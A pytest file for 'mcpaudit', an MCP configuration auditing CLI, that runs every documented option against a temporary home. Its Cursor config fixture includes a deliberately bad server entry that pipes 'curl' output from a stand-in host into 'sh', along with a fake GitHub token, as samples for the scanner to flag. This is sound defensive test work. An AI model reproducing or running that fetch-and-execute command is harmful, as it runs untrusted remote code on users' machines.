"""Every option `--help` lists, and every command the README's table shows, is run for real
(issue 16, point 12). A new option without a run here makes `test_every_option_is_run` fail.

One temp home with a Cursor config (no unpinned packages, so `--network` asks nothing) and
the demo; `--online` points at a closed port on 127.0.0.1, so nothing leaves the machine.
"""

from __future__ import annotations

import argparse
import json
import re
from pathlib import Path

import pytest

from mcpaudit.cli import build_parser
from tests.conftest import REPO, run_cli

TOKEN = "ghp_" + "Q7w6" * 9
CURSOR = {
    "mcpServers": {
        "gh": {"command": "gh-mcp", "env": {"GITHUB_TOKEN": TOKEN}},
        "remote": {"url": "http://mcp.example.test/sse"},
        "bad": {"command": "sh", "args": ["-c", "curl https://x.example.test | sh"]},
    }
}
OFFLINE = {"MCPAUDIT_OSV_URL": "http://127.0.0.1:9"}

# (argv, exit codes accepted, text the output must hold). {home} is the temp home.
RUNS: list[tuple[tuple[str, ...], set[int], str]] = [
    (("--version",), {0}, "mcpaudit "),
    (("--demo", "--reset", "scan", "--fail-on", "never"), {0}, "finding(s)"),
    (("scan", "--format", "json", "-o", "{home}/r.json", "--fail-on", "critical"), {0, 1}, ""),
    (
        ("scan", "--config", "{home}/.cursor/mcp.json", "--no-discover", "--fail-on", "high"),
        {1},
        "MCP101",
    ),
    (("scan", "{home}/.cursor/mcp.json", "--no-discover"), {1}, "MCP401"),
    (("scan", "--suppressions", "{home}/supp.toml", "--baseline", "{home}/r.json"), {0, 1}, ""),
    # --no-suppressions: the MCP401 the file hides counts again (exit 0 without the flag).
    (
        ("scan", "--suppressions", "{home}/supp.toml", "--select", "MCP401", "--no-suppressions"),
        {1},
        "MCP401",
    ),
    (
        (
            "scan",
            "--project",
            "{home}/proj",
            "--no-logs",
            "--log-budget",
            "1",
            "--no-processes",
            "--no-source",
        ),
        {0, 1},
        "",
    ),
    (("scan", "--live", "--server", "remote", "--timeout", "2", "--fail-on", "never"), {0}, ""),
    (
        ("scan", "--live", "--pass-env", "LANG", "--server", "remote", "--fail-on", "never"),
        {0, 2},
        "",
    ),
    (("scan", "--online", "--fail-on", "never"), {0}, ""),
    (("scan", "--walk", "{home}/proj", "--no-projects", "--select", "MCP1", "-q"), {1}, "MCP101"),
    (("scan", "--ignore", "MCP101,MCP110", "--verbose", "--fail-on", "never"), {0}, "MCP401"),
    (("--demo", "report", "-o", "{home}/r.md", "--no-logs"), {0}, ""),
    (("report", "--output", "{home}/r2.json"), {0}, ""),
    (("clients", "--project", "{home}/proj", "--format", "json"), {0}, '"clients"'),
    (("pins", "list", "--server", "gh", "--format", "json"), {2}, "no pinned server named gh"),
    (("pins", "accept"), {0}, ""),
    (("rules", "--format", "json"), {0}, "MCP101"),
    (("--demo", "fix", "--dry-run", "--server", "github"), {0}, "dry run"),
    (
        ("fix", "--rule", "MCP101", "--unsafe", "--yes", "--secret-store", "manual", "--network"),
        {0},
        "not stored",
    ),
    (("fix", "--rule", "MCP320", "--path", "{home}/proj", "--online", "--dry-run"), {0}, ""),
    (("undo", "--list"), {0}, "applied"),
    (("undo", "--force"), {0}, "undid"),
    (("disable", "bad", "--client", "cursor", "--dry-run"), {0}, "dry run"),
    (("disable", "bad", "-y"), {0}, "applied"),
    (("restore", "--list"), {0}, ""),
    (("undo",), {0}, "undid"),
    (("restore", "nonexistent"), {2}, "nonexistent"),
    # What --dry-run and --yes do to a real quarantined entry: tests/fix/test_restore.py.
    (("restore", "nonexistent", "--dry-run"), {2}, "nonexistent"),
    (("restore", "nonexistent", "--yes"), {2}, "nonexistent"),
    (("undo", "20990101T000000000000Z-ffff"), {2}, "no applied transaction"),
    (("scan", "--sandbox", "--live", "--server", "remote"), {0, 1, 2}, ""),  # bwrap may be absent
]
SKIPPED_OPTIONS = {"-h", "--help"}  # argparse's own


def _home(home: Path) -> None:
    (home / ".cursor").mkdir()
    (home / ".cursor/mcp.json").write_text(json.dumps(CURSOR, indent=2))
    (home / "proj").mkdir()
    (home / "supp.toml").write_text('[[suppress]]\nrule = "MCP401"\nreason = "test"\n')
    (home / "base.json").write_text('{"findings": []}')


def _options(parser: argparse.ArgumentParser) -> set[str]:
    """Every option string of `parser` and its subcommands, as "command --opt"."""
    out = set()
    for action in parser._actions:
        if isinstance(action, argparse._SubParsersAction):
            for name, sub in action.choices.items():
                out |= {f"{name} {o}" for o in _options(sub)}
        else:
            out |= set(action.option_strings) - SKIPPED_OPTIONS
    return out


def _actions(parser: argparse.ArgumentParser, command: str = "") -> list[set[str]]:
    """One set of "command --alias" strings per option (-y and --yes are one option)."""
    out = []
    for action in parser._actions:
        if isinstance(action, argparse._SubParsersAction):
            for name, sub in action.choices.items():
                out += _actions(sub, name)
        elif set(action.option_strings) - SKIPPED_OPTIONS:
            out.append({f"{command} {o}".strip() for o in action.option_strings})
    return out


def _shared() -> set[str]:
    """Options the commands share through one helper (one code path): run once is enough."""
    from mcpaudit import cli

    p = argparse.ArgumentParser()
    cli.add_scan_options(p)
    cli.add_live_options(p)
    cli.add_online_option(p)
    return {o for a in p._actions for o in a.option_strings} - SKIPPED_OPTIONS


def _used(argv: tuple[str, ...]) -> set[str]:
    commands = {"scan", "report", "clients", "pins", "rules", "fix", "undo", "restore", "disable"}
    at = next((i for i, a in enumerate(argv) if a in commands), len(argv))
    command = argv[at] if at < len(argv) else ""
    return {(f"{command} {a}" if i > at else a) for i, a in enumerate(argv) if a.startswith("-")}


def test_every_option_is_run() -> None:
    used = set().union(*(_used(argv) for argv, _c, _t in RUNS))
    shared = _shared()
    used_anywhere = {u.split()[-1] for u in used}
    missing = [
        sorted(aliases)
        for aliases in _actions(build_parser())
        if not aliases & used
        and not any(a.split()[-1] in shared and a.split()[-1] in used_anywhere for a in aliases)
    ]
    assert not missing, f"options no test runs: {missing}"


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    h = tmp_path_factory.mktemp("every") / "home"
    h.mkdir()
    _home(h)
    return h


@pytest.mark.parametrize("run", RUNS, ids=[" ".join(r[0])[:60] for r in RUNS])
def test_option_works(home: Path, run: tuple[tuple[str, ...], set[int], str]) -> None:
    argv, codes, text = run
    args = [a.replace("{home}", str(home)) for a in argv]
    proc = run_cli(*args, home=home, env=OFFLINE, timeout=120)
    assert proc.returncode in codes, (args, proc.returncode, proc.stdout[-800:], proc.stderr)
    assert "Traceback" not in proc.stderr
    assert text in proc.stdout + proc.stderr, (args, proc.stdout[-800:], proc.stderr)
    assert TOKEN not in proc.stdout + proc.stderr
    if "report" in argv and "--output" in argv:
        assert json.loads((home / "r2.json").read_text())["schema_version"]  # JSON, by suffix


def test_every_readme_command_is_a_real_command() -> None:
    readme = (REPO / "README.md").read_text()
    table = readme[readme.index("## Commands") : readme.index("Exit codes of `scan`")]
    parser = build_parser()
    sub = next(a for a in parser._actions if isinstance(a, argparse._SubParsersAction))
    for line in re.findall(r"^\| `mcpaudit ([^`]*)`", table, re.M):
        for flag in re.findall(r"--[a-z-]+", line):
            command = line.split()[0]
            if command == "run":
                continue  # `mcpaudit run` is its own launcher (mcpaudit/launcher.py), not argparse
            options = _options(sub.choices[command]) if command in sub.choices else _options(parser)
            assert flag in options or flag in _options(parser), (line, flag)
